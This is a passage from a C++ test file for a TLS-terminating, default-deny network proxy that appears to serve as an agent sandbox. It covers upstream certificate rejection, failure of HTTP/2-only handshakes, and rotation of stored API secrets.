  auto rules = RuleSet::Build({"api.test", "127.0.0.1"}, {}, NetDefault::kDeny);
  ProxyOptions options;
  std::shared_ptr<Terminator> terminator = std::move(*made);
  options.terminator = terminator;
  Records records;
  Proxy proxy(io, std::move(*rules), options, resolver, nullptr, &records);
  std::uint16_t port = 0;
  ASSERT_TRUE(proxy.Serve(Listen(&port), ListenerKind::kHttp).ok());
  std::thread th([&] { io.run_for(std::chrono::seconds(10)); });
  int fd = Connect(port);
  const std::string target = "api.test:" + std::to_string(up.port());
  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
  RecvUntil(fd, "\r\n\r\n");
  ssl::context ctx(ssl::context::tls_client);
  ctx.add_certificate_authority(asio::buffer(terminator->ca_pem()));
  SSL* s = SSL_new(ctx.native_handle());
  SSL_set_tlsext_host_name(s, "api.test");
  SSL_set_fd(s, fd);
  ASSERT_EQ(SSL_connect(s), 1);
  // The upstream is dialled over TLS at the first allowed request.
  const std::string get = Get("api.test", up.port(), "/x");
  SSL_write(s, get.data(), static_cast<int>(get.size()));
  std::string got;
  char buf[4096];
  int n;
  while ((n = SSL_read(s, buf, sizeof buf)) > 0) got.append(buf, static_cast<std::size_t>(n));
  SSL_free(s);
  ::close(fd);
  EXPECT_NE(got.find("HTTP/1.1 502"), std::string::npos) << got;
  EXPECT_NE(got.find("certificate not trusted"), std::string::npos) << got;
  EXPECT_TRUE(up.seen().empty());
  asio::post(io, [&] { proxy.Stop(); });
  io.stop();
  th.join();
}

TEST(Terminator, AnH2OnlyClientFailsTheHandshakeCleanly) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.port());
  const std::string target = "api.test:" + std::to_string(up.port());
  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
  RecvUntil(fd, "\r\n\r\n");
  ssl::context ctx(ssl::context::tls_client);
  SSL* s = SSL_new(ctx.native_handle());
  SSL_set_tlsext_host_name(s, "api.test");
  static const unsigned char kH2[] = {2, 'h', '2'};
  SSL_set_alpn_protos(s, kH2, sizeof kH2);
  SSL_set_fd(s, fd);
  EXPECT_NE(SSL_connect(s), 1);
  SSL_free(s);
  ::close(fd);
  // And a client offering both gets http/1.1.
  Client both(t, "api.test", up.port());
  ASSERT_TRUE(both.ok());
}

TEST(Terminator, RotatedValueIsUsedFromTheNextRequest) {
  Upstream up;
  CredentialsSpec creds;
  creds.secrets = {ApiSecret()};
  ::setenv("SSL_CERT_FILE", up.ca_file().c_str(), 1);
  auto store = SecretStore::Create(creds.secrets);
  ASSERT_TRUE(store.ok());
  ASSERT_TRUE((*store)->SetForTest(0, "first-value-1234").ok());
  ASSERT_TRUE((*store)->Rotate("api", "second-value-5678").ok());
  std::string seen;
  ASSERT_TRUE((*store)->WithValue(0, [&](std::string_view v) { seen = v; }).ok());
  EXPECT_EQ(seen, "second-value-5678");
  EXPECT_FALSE((*store)->Rotate("nope", "x").ok());
  ::unsetenv("SSL_CERT_FILE");
}

}  // namespace
}  // namespace agentbox::net
